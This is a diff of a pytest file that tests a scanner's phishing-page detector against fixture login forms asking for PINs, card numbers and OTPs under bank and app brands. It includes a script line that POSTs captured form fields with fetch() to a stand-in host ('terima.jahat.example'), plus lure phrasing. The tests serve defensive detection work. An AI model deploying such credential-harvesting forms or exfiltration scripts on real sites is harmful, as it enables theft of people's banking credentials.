@@ -4,20 +4,16 @@ from __future__ import annotations
 
 import pytest
 
-from cyberscan.checks.content.phishing_kit import CHECK
 from cyberscan.model.look import Failed, Reason
-from cyberscan.model.verdict import Outcome, Verdict
+from cyberscan.model.verdict import Outcome
 from cyberscan.tables.brands import BRANDS, Brand
-from tests.checks.content.reading import NONE, b64, linked, material, site, small
+from cyberscan.tables.phishing import STRICT
+from tests.checks.content.phishing_pages import judged
+from tests.checks.content.reading import NONE, b64, linked, site, small
 
 PIN = '<input name="user"><input type="password" name="pin">'
+SECRET = '<input name="akun"><input type="password" name="sandi">'
 CARD = '<input name="kartu" autocomplete="cc-number"><input name="cvv" autocomplete="cc-csc">'
-
-
-def judged(source: str, beside: object = NONE) -> Verdict:
-    verdict = CHECK.judge(material(source), beside)
-    assert isinstance(verdict, Verdict)
-    return verdict
 
 
 def login(title: str, action: str, *, fields: str = PIN, body: str = "", heading: str = "") -> str:
@@ -57,6 +53,40 @@ def test_in_a_folder_where_none_belongs(path: str) -> None:
     assert verdict.message == "folder"
 
 
+JAPANESE = (
+    "<label>クレジットカード番号<input name=cn></label>"
+    "<label>セキュリティコード<input name=cv></label>"
+)
+
+
+@pytest.mark.parametrize("fields", [CARD, JAPANESE], ids=["by its names", "Japanese"])
+def test_a_card_in_a_folder_where_none_belongs(fields: str) -> None:
+    page = login("", "next.php", fields=fields)
+    assert judged(site(), linked(("img/galeri/jp/", page))).message == "posed"
+    assert judged(site(), linked(("bayar/", page))).outcome is Outcome.PASS
+    assert judged(site(), linked(("img/galeri/", login("", "x", fields="")))).message == "clean"
+
+
+@pytest.mark.parametrize(
+    ("path", "action", "more", "message"),
+    [
+        ("images/x/", "post.php", "", "posed"),
+        ("uploads/a/login.html", "kirim.php", "", "posed"),
+        (".x/", "k.php", "", "posed"),
+        # A login by its name, an application's own form, and folders that hold applications.
+        ("images/x/", "login.php", "", "clean"),
+        ("images/x/", "post.php", "<input type=hidden name=_token value=a>", "clean"),
+        ("files/x/", "post.php", "", "clean"),
+        ("masuk/", "post.php", "", "clean"),
+    ],
+)
+def test_a_login_among_pictures_that_only_keeps_what_it_gets(
+    path: str, action: str, more: str, message: str
+) -> None:
+    page = login("Sign in", action, fields=SECRET + more)
+    assert judged(site(), linked((path, page))).message == message
+
+
 def test_a_script_deep_inside() -> None:
     verdict = judged(site(), linked(("a/b/c/d.html", login("Facebook", "/a/b/c/post.php"))))
     assert verdict.message == "folder"
@@ -84,8 +114,36 @@ def test_a_title_that_says_nothing_leaves_it_to_the_heading(title: str) -> None:
     assert judged(page).message == "foreign"
 
 
-def test_a_login_under_a_brand_s_name_on_the_own_host_needs_a_look() -> None:
-    assert judged(login("Instagram", "/login")).message == "brand"
+@pytest.mark.parametrize(
+    ("title", "fields", "message"),
+    [
+        ("Instagram", SECRET, "brand"),
+        ("Instagram", PIN, "posed"),
+        ("Instagram | Instagram", SECRET, "brand"),
+        ("Microsoft", SECRET, "brand"),
+        ("Google", SECRET, "brand"),
+        # A counter of the regional bank in the office asks its staff for a PIN.
+        ("Bank Jatim", PIN, "brand"),
+        ("Bank Jatim", SECRET, "brand"),
+        ("Bank Jatim", CARD, "posed"),
+        ("Bank Jatim", f"{PIN}<input name=no_rekening>", "posed"),
+        ("Bank Mandiri", f"{PIN}<input placeholder='Kode OTP'>", "posed"),
+        ("DANA Kaget", PIN, "posed"),
+        ("GoPay", "<input name=hp><input name=otp>", "posed"),
+        ("WhatsApp", "<input name=hp><input placeholder='Kode 6 digit'>", "posed"),
+        ("Mobile Banking", PIN, "posed"),
+        ("PayPal", CARD, "posed"),
+    ],
+)
+def test_a_brand_s_name_on_the_own_host(title: str, fields: str, message: str) -> None:
+    assert judged(login(title, "/login", fields=fields)).message == message
+
+
+@pytest.mark.parametrize("brand", sorted(STRICT))
+def test_a_login_that_nobody_else_runs(brand: str) -> None:
+    word = next(b for b in BRANDS if b.name == brand).words[0].title()
+    page = login(f"{word} - Masuk", "/login", fields=SECRET, heading=f"Masuk ke {word}")
+    assert judged(page).message == "posed"
 
 
 HONEST = {
@@ -136,7 +194,7 @@ def test_pages_behind_it_that_could_not_be_seen_are_told() -> None:
     assert judged(site(), Failed(Reason.TIMEOUT)).message == "front"
 
 
-STRANGER = "https://form.jahat.example/k.php"
+STRANGER = "https://form.jahat.example/proses.php"
 FIELDS = '<input name="a"><input type="password" name="b">'
 
 
@@ -191,7 +249,7 @@ def test_forms_that_lure_and_send_the_password_to_a_stranger(title: str, text: s
     ],
 )
 def test_ordinary_logins_are_no_lures(title: str, text: str, action: str) -> None:
-    assert judged(asking(title, text, action)).outcome is Outcome.PASS
+    assert judged(asking(title, text, action)).message in {"clean", "outside"}
 
 
 @pytest.mark.parametrize("title", ["Internet Banking - Masuk", "Login Mobile Banking"])
@@ -205,7 +263,7 @@ def test_a_false_login_that_is_shown_as_one_passes() -> None:
 
 
 @pytest.mark.parametrize(
-    ("host", "message"), [("terima.jahat.example", "foreign"), ("www.klikbca.com", "brand")]
+    ("host", "message"), [("terima.jahat.example", "foreign"), ("www.klikbca.com", "posed")]
 )
 def test_a_brand_s_page_whose_script_sends_the_fields_away(host: str, message: str) -> None:
     script = f"function k(f){{fetch('https://{host}/g',{{method:'POST',body:new FormData(f)}})}}"
@@ -220,10 +278,13 @@ GATEWAY = (
 )
 
 
-@pytest.mark.parametrize("to", ["https://app.midtrans.com/snap/v1/pay", "https://bayar.example/v1"])
-def test_what_the_own_form_asks_is_not_the_other_s(to: str) -> None:
+@pytest.mark.parametrize(
+    ("to", "message"),
+    [("https://app.midtrans.com/snap/v1/pay", "clean"), ("https://bayar.example/v1", "outside")],
+)
+def test_what_the_own_form_asks_is_not_the_other_s(to: str, message: str) -> None:
     page = small(GATEWAY.format(to=to), title="e-PBB Contoh - Login dan Pembayaran")
-    assert judged(page).outcome is Outcome.PASS
+    assert judged(page).message == message
 
 
 TOKENS = ["_token", "csrf_test_name", "csrfmiddlewaretoken", "__RequestVerificationToken"]
@@ -235,7 +296,8 @@ TOKENS = ["_token", "csrf_test_name", "csrfmiddlewaretoken", "__RequestVerificat
     [
         ("https://terima.example/r/1?back=https%3A%2F%2Fwww.contohkab.go.id%2F", "", "diverted"),
         ("/masuk", "", "clean"),
-        ("https://sso.firma.example/login", "", "clean"),
+        ("https://sso.firma.example/login", "", "outside"),
+        ("https://sso.firma.example/realms/x/login-actions", "", "clean"),
         ("https://terima.example/r/1", "<p>Disediakan oleh terima.example</p>", "clean"),
         ("https://sso.contohprov.go.id/r", "", "clean"),
         ("https://app.midtrans.com/r", "", "clean"),
@@ -268,8 +330,8 @@ def test_a_button_that_sends_it_elsewhere(to: str, message: str) -> None:
         ("Masukkan PIN untuk mencairkan pengembalian pajak", "lure"),
         ("Klaim hadiah: masukkan kode OTP", "lure"),
         ("Enam belas angka di depan kartu, saldo terakhir, kode enam angka", "lure"),
-        ("PIN pegawai dan kata sandi", "clean"),
-        ("Kami tidak pernah meminta PIN untuk klaim hadiah.", "clean"),
+        ("PIN pegawai dan kata sandi", "outside"),
+        ("Kami tidak pernah meminta PIN untuk klaim hadiah.", "outside"),
     ],
 )
 @pytest.mark.parametrize("framed", [False, True])
